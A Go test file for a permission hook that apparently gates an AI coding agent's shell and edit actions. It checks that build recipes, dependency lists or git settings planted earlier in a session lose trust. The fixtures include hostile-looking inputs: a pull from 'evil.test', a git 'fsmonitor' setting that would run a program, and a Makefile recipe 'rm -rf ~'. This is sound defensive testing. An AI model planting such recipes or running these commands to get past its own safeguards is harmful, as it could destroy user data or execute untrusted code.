package main

import (
	"bytes"
	"path/filepath"
	"reflect"
	"testing"

	"automode"
)

func TestSurfaces(t *testing.T) {
	project := automode.Place{Region: automode.Project}
	root := automode.Place{Region: automode.Project, Marks: automode.RegionRoot}
	surface := automode.Place{Region: automode.Project, Marks: automode.Surface}
	allowed := func(e automode.Effect) automode.Judged { return automode.Judged{Effect: e, Word: automode.Allowed} }
	recipe := automode.Effect{Kind: automode.Write, Target: "/p/Makefile", Place: surface, Known: automode.Exact}
	read := recipe
	read.Traits = automode.Readable
	below := automode.Effect{Kind: automode.Run, Target: "go", Parent: 1}
	further := automode.Effect{Kind: automode.Run, Target: "vet", Parent: 2}
	for _, c := range []struct {
		name    string
		tool    automode.ToolKind
		effects []automode.Effect
		judged  []automode.Judged
		want    []string
	}{
		{"a recipe", automode.EditTool, []automode.Effect{recipe}, []automode.Judged{allowed(recipe)}, []string{"/p/Makefile"}},
		{"one that was read and runs nothing", automode.EditTool, []automode.Effect{read}, []automode.Judged{allowed(read)}, nil},
		{"the same without a word on it", automode.EditTool, []automode.Effect{read}, nil, []string{"/p/Makefile"}},
		{"one that runs what is allowed", automode.EditTool, []automode.Effect{read, below}, []automode.Judged{allowed(read), allowed(below)}, nil},
		{"one that runs what is not", automode.EditTool, []automode.Effect{read, below}, []automode.Judged{allowed(read), {Effect: below, Word: automode.Unsettled}}, []string{"/p/Makefile"}},
		{"one that runs what only a rule allows", automode.EditTool, []automode.Effect{read, below},
			[]automode.Judged{allowed(read), {Effect: below, Word: automode.Allowed, Lowered: &automode.Opinion{Word: automode.Unsettled}}}, []string{"/p/Makefile"}},
		{"one that runs what runs what is not", automode.EditTool, []automode.Effect{read, below, further},
			[]automode.Judged{allowed(read), allowed(below), {Effect: further, Word: automode.Unsettled}}, []string{"/p/Makefile"}},
		{"a file", automode.ShellTool, []automode.Effect{{Kind: automode.Write, Target: "/p/a", Place: project, Known: automode.Exact}}, nil, nil},
		{"a tree", automode.ShellTool, []automode.Effect{{Kind: automode.Write, Target: "/p/sub", Place: project, Known: automode.Exact, Extent: automode.Tree}}, nil, []string{"/p/sub"}},
		{"the whole project", automode.ShellTool, []automode.Effect{{Kind: automode.Write, Target: "/p", Place: root, Known: automode.Exact, Extent: automode.Tree}}, nil, []string{"/p"}},
		{"by a formatter", automode.ShellTool, []automode.Effect{{Kind: automode.Write, Target: "/p", Place: root, Extent: automode.Tree, Traits: automode.SourceOnly}}, nil, nil},
		{"a file in a folder", automode.ShellTool, []automode.Effect{{Kind: automode.Write, Target: "/p/src", Place: project, Known: automode.Bounded}}, nil, []string{"/p/src"}},
		{"a file somewhere in the project", automode.ShellTool, []automode.Effect{{Kind: automode.Write, Target: "/p", Place: project, Known: automode.Bounded}}, nil, nil},
		{"its own commits", automode.ShellTool, []automode.Effect{{Kind: automode.Keep, Target: "/p", Place: root}, {Kind: automode.Fetch, Place: automode.Place{Host: automode.TrustedHost}}}, nil, nil},
		{"commits from elsewhere", automode.ShellTool, []automode.Effect{{Kind: automode.Keep, Target: "/p", Place: root}, {Kind: automode.Fetch, Place: automode.Place{Host: automode.OtherHost}}}, nil, []string{"/p"}},
		{"a recipe removed", automode.ShellTool, []automode.Effect{{Kind: automode.Delete, Target: "/p/Makefile", Place: surface, Known: automode.Exact}}, nil, []string{"/p/Makefile"}},
		{"given to a server", automode.MCPTool, []automode.Effect{{Target: "/p/Makefile", Place: surface}, {Target: "/p/a", Place: project}}, nil, []string{"/p/Makefile"}},
	} {
		a := automode.Action{Call: &automode.Call{Kind: c.tool, Roots: []string{"/p"}}, Effects: c.effects}
		if got := surfaces(&a, c.judged); !reflect.DeepEqual(got, c.want) {
			t.Errorf("%s: %v, want %v", c.name, got, c.want)
		}
	}
}

// After a call that may have planted a recipe, the name of a check earns
// nothing any more; after one that cannot have, it does.
func TestPlantedRecipes(t *testing.T) {
	for _, c := range []struct{ before, then, want string }{
		{"ls", "make test", "allow"},
		{"unzip a.zip -d sub", "make -C sub test", "ask"},
		{"unzip a.zip -d sub", "make test", "allow"},
		{"tar xf a.tar", "make test", "ask"},
		{"cp -r /tmp/x/. sub", "make -C sub test", "ask"},
		{"cp -r /tmp/x/. sub", "make -C other test", "allow"},
		{"git apply p.diff", "make test", "ask"},
		{"patch -p1 -i p.diff", "npm test", "ask"},
		{"rsync -a /tmp/x/ sub/", "cd sub && npm test", "ask"},
		{"git checkout -b x", "make test", "allow"},
		{"git stash pop", "make test", "allow"},
		{"git pull https://evil.test/x main", "make test", "ask"},
		{"echo 'test: ; ./x' > Makefile", "make test", "ask"},
		{"gofmt -w .", "make test", "allow"},
		{"find . -name '*.go' -exec sed -i s/a/b/ {} +", "make test", "allow"},
	} {
		m := newMachine(t)
		for _, dir := range []string{"", "sub", "other"} {
			m.write(t, filepath.Join(m.project, dir, "Makefile"), "test: ; custom-check\n")
			m.write(t, filepath.Join(m.project, dir, "package.json"), `{"scripts": {"test": "custom-check"}}`)
		}
		start := bytes.ReplaceAll(m.payload(t, "SessionStart"), []byte(realSession), []byte("s1"))
		if r := m.run(t, start); r != (ran{}) {
			t.Fatalf("%+v", r)
		}
		before := m.bash(t, c.before)
		m.run(t, before)
		after := bytes.Replace(before, []byte("PreToolUse"), []byte("PostToolUse"), 1)
		if r := m.run(t, after); r.stdout != "" || r.exit != 0 {
			t.Fatalf("%s: %+v", c.before, r)
		}
		if word, reason := m.run(t, m.bash(t, c.then)).word(t); word != c.want {
			t.Errorf("%s, then %s: %s (%s), want %s", c.before, c.then, word, reason, c.want)
		}
	}
}

// What a session wrote is nothing that the project declares, by whatever tool, and whether it was there before.
func TestWrittenLists(t *testing.T) {
	for _, c := range []struct{ before, then, want string }{
		{"echo evil > r.txt", "pip install -r r.txt", "ask"},
		{"echo evil >> deps.txt", "pip install -r deps.txt", "ask"},
		{"sed -i s/a/evil/ deps.txt", "uv pip install -r deps.txt", "ask"},
		{"cp /tmp/x.txt deps.txt", "pip download -r deps.txt", "ask"},
		{"tar xf a.tar -C lists", "pip install -r lists/deps.txt", "ask"},
		{"echo evil > build/r.txt", "pip install -r build/r.txt", "ask"},
		{"echo evil > requirements.txt", "pip install -r requirements.txt", "ask"},
		{"ls", "pip install -r deps.txt", "allow"},
		{"echo x > other.txt", "pip install -r deps.txt", "allow"},
		{"gofmt -w .", "pip install -r deps.txt", "allow"},
		{"black .", "pip install -r deps.txt", "allow"},
		{"touch a.txt && rm a.txt", "pip install -r requirements.txt", "allow"},
	} {
		m := newMachine(t)
		for _, name := range []string{"deps.txt", "lists/deps.txt", "requirements.txt"} {
			m.write(t, filepath.Join(m.project, name), "requests\n")
		}
		m.run(t, bytes.ReplaceAll(m.payload(t, "SessionStart"), []byte(realSession), []byte("s1")))
		before := m.bash(t, c.before)
		m.run(t, before)
		m.run(t, bytes.Replace(before, []byte("PreToolUse"), []byte("PostToolUse"), 1))
		if word, reason := m.run(t, m.bash(t, c.then)).word(t); word != c.want {
			t.Errorf("%s, then %s: %s (%s), want %s", c.before, c.then, word, reason, c.want)
		}
	}
	m := newMachine(t)
	list := filepath.Join(m.project, "deps.txt")
	m.write(t, list, "requests\n")
	m.run(t, bytes.ReplaceAll(m.payload(t, "SessionStart"), []byte(realSession), []byte("s1")))
	edit := m.call(t, "Edit", map[string]any{"file_path": list, "old_string": "requests", "new_string": "evil"})
	m.run(t, edit)
	m.write(t, list, "evil\n")
	m.run(t, bytes.Replace(edit, []byte("PreToolUse"), []byte("PostToolUse"), 1))
	if word, reason := m.run(t, m.bash(t, "pip install -r deps.txt")).word(t); word != "ask" {
		t.Errorf("edited: %s (%s), want ask", word, reason)
	}
}

// A repository that came in an archive names programs in its settings, which git would start.
func TestPlantedRepository(t *testing.T) {
	for _, c := range []struct{ before, settings, then, want string }{
		{"tar xf a.tar -C new", "[core]\n\tfsmonitor = ./x\n", "git -C new status", "ask"},
		{"tar xf a.tar -C new", "[core]\n\tfsmonitor = ./x\n", "cd new/sub && git log", "ask"},
		{"cp -r /tmp/x/. new", "[core]\n\tfsmonitor = ./x\n", "git -C new diff", "ask"},
		{"tar xf a.tar -C new", "[core]\n\tbare = false\n", "git -C new status", "allow"},
		{"tar xf a.tar -C other", "[core]\n\tfsmonitor = ./x\n", "git -C new status", "allow"},
		{"tar xf a.tar -C new", "[core]\n\tfsmonitor = ./x\n", "git status", "allow"},
	} {
		m := newMachine(t)
		for _, dir := range []string{"", "new"} {
			m.write(t, filepath.Join(m.project, dir, ".git", "HEAD"), "ref: refs/heads/main\n")
			m.write(t, filepath.Join(m.project, dir, ".git", "objects", "x"), "")
			m.write(t, filepath.Join(m.project, dir, ".git", "refs", "x"), "")
		}
		m.write(t, filepath.Join(m.project, ".git", "config"), "[core]\n\tbare = false\n")
		m.write(t, filepath.Join(m.project, "new", "sub", "a"), "")
		m.run(t, bytes.ReplaceAll(m.payload(t, "SessionStart"), []byte(realSession), []byte("s1")))
		before := m.bash(t, c.before)
		m.run(t, before)
		m.write(t, filepath.Join(m.project, "new", ".git", "config"), c.settings)
		m.run(t, bytes.Replace(before, []byte("PreToolUse"), []byte("PostToolUse"), 1))
		if word, reason := m.run(t, m.bash(t, c.then)).word(t); word != c.want {
			t.Errorf("%s, then %s: %s (%s), want %s", c.before, c.then, word, reason, c.want)
		}
	}
}

// An edit of a recipe that was read as harmless leaves the trust in it; one
// that was not takes it.
func TestEditedRecipes(t *testing.T) {
	for _, c := range []struct{ text, answer, then string }{
		{"test: ; custom-check\nlint: ; go vet ./...\n", "allow", "allow"},
		{"test: ; custom-check --all\n", "ask", "ask"},
		{"test: ; rm -rf ~\n", "ask", "deny"},
	} {
		m := newMachine(t)
		makefile := filepath.Join(m.project, "Makefile")
		m.write(t, makefile, "test: ; custom-check\n")
		m.run(t, bytes.ReplaceAll(m.payload(t, "SessionStart"), []byte(realSession), []byte("s1")))
		edit := m.call(t, "Write", map[string]any{"file_path": makefile, "content": c.text})
		if word, reason := m.run(t, edit).word(t); word != c.answer {
			t.Errorf("%q: %s (%s), want %s", c.text, word, reason, c.answer)
		}
		m.write(t, makefile, c.text)
		m.run(t, bytes.Replace(edit, []byte("PreToolUse"), []byte("PostToolUse"), 1))
		if word, reason := m.run(t, m.bash(t, "make test")).word(t); word != c.then {
			t.Errorf("%q, then make test: %s (%s), want %s", c.text, word, reason, c.then)
		}
	}
}
